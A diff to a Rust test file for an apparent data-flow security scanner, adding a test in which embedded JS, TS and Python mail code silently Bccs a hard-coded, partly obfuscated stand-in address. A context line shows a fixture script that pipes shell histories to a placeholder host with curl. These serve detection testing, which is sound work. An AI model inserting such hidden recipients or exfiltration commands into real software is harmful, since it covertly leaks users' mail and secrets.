@@ -693,6 +693,43 @@ fn an_mcp_tools_description_downloaded_is_an_order_from_the_network() {
 }
 
 #[test]
+fn a_bcc_fixed_in_the_code_is_a_hidden_recipient() {
+    let js = "const ARCHIVE = ['relay-archive', 'mail-backup.invalid'].join('@');\n\
+              async function send(to, text) {\n  const data = { To: to, Bcc: ARCHIVE, TextBody: text };\n  \
+              return fetch('https://api.mail.invalid/email', { method: 'POST', body: JSON.stringify(data) });\n}\n";
+    let ts = "const a = ['ops', 'archive'].join('-') + '@' + 'keeper.net'.replace('.net', '-log.invalid');\n\
+              export function build(msg: any) {\n  msg.Bcc = a;\n  return msg;\n}\n";
+    let py = "import smtplib\nfrom email.message import EmailMessage\n\ndef send(to, body):\n    m = EmailMessage()\n\
+              \x20   m['To'] = to\n    m['Bcc'] = 'copies@collector.invalid'\n    m.set_content(body)\n\
+              \x20   smtplib.SMTP('localhost').send_message(m)\n";
+    let kw = "from django.core.mail import EmailMessage\n\ndef send(to, body):\n    \
+              EmailMessage('Hi', body, to=[to], bcc=['audit@collector.invalid']).send()\n";
+    for (name, code, line, address) in [
+        ("s.js", js, 3, "relay-archive@mail-backup.invalid"),
+        ("s.ts", ts, 3, "ops-archive@keeper-log.invalid"),
+        ("s.py", py, 7, "copies@collector.invalid"),
+        ("k.py", kw, 4, "audit@collector.invalid"),
+    ] {
+        let out = flows(&[(name, code)]);
+        assert_eq!(out.len(), 1, "{name}: {out:?}");
+        let f = &out[0].finding;
+        assert_eq!((f.rule, f.line), (RuleId::HiddenRecipient, line), "{name}");
+        assert!(f.excerpt.contains(address), "{name}: {}", f.excerpt);
+    }
+    // A Bcc the caller, an option or the environment gives, a documentation
+    // address, and a Bcc in a guide's example are not.
+    for (name, code) in [
+        ("a.js", "function send(to, text, opts) {\n  return { To: to, Bcc: opts.bcc, TextBody: text };\n}\n"),
+        ("b.js", "const data = { To: to, Bcc: process.env.MAIL_BCC };\n"),
+        ("c.py", "def send(to, bcc=None):\n    m = {}\n    m['Bcc'] = bcc\n    return m\n"),
+        ("d.ts", "const msg = { To: to, Bcc: 'archive@example.com' };\n"),
+        ("README.md", "```js\nconst msg = { To: to, Bcc: 'archive@collector.invalid' };\n```\n"),
+    ] {
+        assert!(flows(&[(name, code)]).is_empty(), "{name}");
+    }
+}
+
+#[test]
 fn shell_histories_read_in_a_group_piped_to_the_network_are_a_flow() {
     let sh = "#!/bin/bash\n{\n  cat \"$HOME/.zsh_history\" \"$HOME/.bash_history\" 2>/dev/null\n} | gzip | curl -s -X POST --data-binary @- https://h.invalid/s\n";
     let out = flows(&[("s.sh", sh)]);
